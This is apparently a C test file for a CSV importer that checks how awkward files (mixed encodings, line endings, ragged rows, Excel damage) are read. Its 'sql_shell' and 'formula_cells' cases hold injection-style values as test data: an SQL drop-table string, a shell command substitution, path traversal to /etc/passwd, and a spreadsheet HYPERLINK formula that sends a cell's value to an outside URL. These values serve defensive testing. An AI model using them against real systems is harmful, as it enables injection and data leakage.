/* SPDX-License-Identifier: GPL-3.0-or-later
 *
 * Awkward text files, each with what must come out of it.
 */
#include "config.h"

#include "fixture.h"

#define CUSTOMERS                                                                                                      \
  "Kdnr|Name|Straße|PLZ|Ort|Telefon|Umsatz|Geburtsdatum\n"                                                            \
  "00042|Jürgen Müller|Königsallee 1a|01067|Dresden|+49 351 4711|1.234,56|03.04.1971\n"                             \
  "00043|Zoë Groß|Weg 3; Hof|04109|Leipzig|0341/123|0,5|31.12.1999\n"

typedef struct
{
  const char *file;
  const char *table;
  const char *issues;
} Case;

static const Case cases[] = {
  { "utf8_bom_semicolon", CUSTOMERS, "" },
  { "cp1252_semicolon", CUSTOMERS, "" },
  { "cp850_semicolon", CUSTOMERS, "" },
  { "utf16le_bom", CUSTOMERS, "" },
  { "utf16be_bom", CUSTOMERS, "" },
  { "utf16le_nobom", CUSTOMERS, "" },
  { "sep_line", "id|name\n1|A,B;C\n", "" },
  { "tab", "id|name\n1|A, \"B\"\n", NULL },
  { "mixed_eol", "id|name\n1|A\n2|B\n3|C\n4|D\n", "" },
  { "lone_cr", "id|name\n1|A\n2|B\n", "" },
  { "quoted_cr_lf", "id|name\n1|A\r\nB\n2|C\nD\n3|E\rF\n", "" },
  { "ragged", "id|name|city\n1|A|Berlin\n2|B|\n3|C|Bonn|extra|more\n4|D|Ulm\n", "2@3 3@4:3" },
  { "unterminated_quote_eof", "id|name\n1|\"A\n2|B\n3|C\n", "4@2:1" },
  { "quote_mid_field", "id|name\n1|5\" pipe\n2|\"A\"B\n3|O\"Neill\n", "4@2:1 4@3:1 4@4:1" },
  { "nul_byte", "id|name\n1|A\uFFFDB\n2|C\n", "5@2:1" },
  { "bad_utf8_one_row", "id|name\n1|Müller\n2|M\uFFFDller\n3|\uFFFD\n4|ok\n", "1@3:1 1@4:1" },
  { "overlong_surrogate", "id|name\n1|\uFFFD\n2|\uFFFD\n3|ok\n", "1@2:1 1@3:1" },
  { "header_only", "id|name\n", "" },
  { "dup_and_empty_headers", "id|name|name_2|column_4|column_5\n1|A|B|C|D\n", "6@1:2 6@1:3 6@1:4" },
  { "blank_lines_top", "id|name\n1|A\n", "7@3" },
  { "total_row", "id|amount\n1|10.00\n2|20.00\n~Total|30.00\n", "8@4" },
  { "leading_zeros", "id|plz|tel|ean\n0001|01067|0301234|0012345678905\n", "" },
  { "big_ints", "id\n9007199254740993\n12345678901234567890\n0\n-0\n", "" },
  { "numbers_locale", "a\n1.234\n1,234\n1 234,50\n1\u202F234,50\n1'234.50\n(12.00)\n12-\n", "" },
  { "null_words", "id|name\n1|NULL\n2|null\n3|N/A\n4|None\n5|\n6|\n7|Null\n", "" },
  { "control_chars", "id|name\n1|a\uFFFDb\uFFFDc\n2|\uFFFD\n3|x\uFFFDz\uFFFD\n", "5@2:1 5@3:1 5@4:1" },
  { "ctrl_z", "id|name\n1|A\n", "5@3" },
  { "no_final_newline", "id|name\n1|A\n", "" },
  { "one_column", "mail\na@x.example\nb@x.example\n", "" },
  { "delim_in_one_row", "name\nMüller, Hans\nMeier, Eva\n", "" },
  { "excel_damage",
    "id|phone|plz|date|gene\n1|4.93012E+11|1067|44197|MARCH1\n2|493012345678|01067|2021-01-01|01-Mar\n"
    "3|+49 30 12345678|1067.0|1/1/21|SEPT2\n",
    "10@2:1" },
  { "sql_shell",
    "id|name\n1|Robert'); DROP TABLE customers;--\n2|$(touch /tmp/pwned)\n3|%n%s%x\n4|<b>&amp;</b>\n"
    "5|../../etc/passwd\n",
    "" },
  { "formula_cells",
    "id|name\n1|=1+1\n2|+491711234567\n3|-5\n4|@SUM(A1)\n5|=HYPERLINK(\"http://x.example/?a=\"&A1,\"x\")\n6|\t=1+1\n"
    "7|\r=1+1\n8|＝1+1\n9|'quoted\n",
    "" },
  { "dates_mixed",
    "id|d\n1|03/04/2021\n2|13/04/2021\n3|04/13/2021\n4|2021-02-29\n5|0000-00-00\n6|2021-03-28T02:30:00+01:00\n"
    "7|1.1.70\n8|9999-12-31\n",
    "" },
};

static char *
path_of (const char *file)
{
  g_autofree char *name = g_strconcat (file, ".csv", NULL);

  return g_test_build_filename (G_TEST_DIST, "formats", "data", "csv", name, NULL);
}

static void
reads_as_expected (gconstpointer data)
{
  const Case *c = data;
  g_autofree char *path = path_of (c->file);

  fixture_assert_reads (path, NULL, c->table, c->issues);
}

static void
decomposed_umlauts_are_kept (void)
{
  g_autofree char *path = path_of ("utf8_nfd");
  g_autofree char *found = fixture_read (path, NULL, NULL, NULL);
  g_autofree char *composed = g_utf8_normalize (found, -1, G_NORMALIZE_NFC);

  g_assert_cmpstr (found, !=, CUSTOMERS);
  g_assert_cmpstr (composed, ==, CUSTOMERS);
}

static void
invisible_characters_are_kept (void)
{
  g_autofree char *path = path_of ("bidi_zwj_nbsp");

  fixture_assert_reads (path, NULL,
                        "id|name\n1|\u202Eevil\n2|👩\u200D👩\u200D👧\n3|\u00A0Anna\u00A0\n4|An\u00ADna\n"
                        "5|\u200BBob\n6|\uFEFF"
                        "Carl\n",
                        "");
}

static void
nothing_in_it_is_said (void)
{
  g_autofree char *empty = path_of ("empty");
  g_autofree char *mark = path_of ("only_bom");

  fixture_assert_refused (empty, NULL, TRIB_FORMAT_ERROR_EMPTY, "is empty");
  fixture_assert_refused (mark, NULL, TRIB_FORMAT_ERROR_EMPTY, "is empty");
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *name = g_strdup_printf ("/formats/csv-files/%s", cases[i].file);

      g_test_add_data_func (name, &cases[i], reads_as_expected);
    }
  g_test_add_func ("/formats/csv-files/decomposed-umlauts-are-kept", decomposed_umlauts_are_kept);
  g_test_add_func ("/formats/csv-files/invisible-characters-are-kept", invisible_characters_are_kept);
  g_test_add_func ("/formats/csv-files/nothing-in-it-is-said", nothing_in_it_is_said);
  return g_test_run ();
}
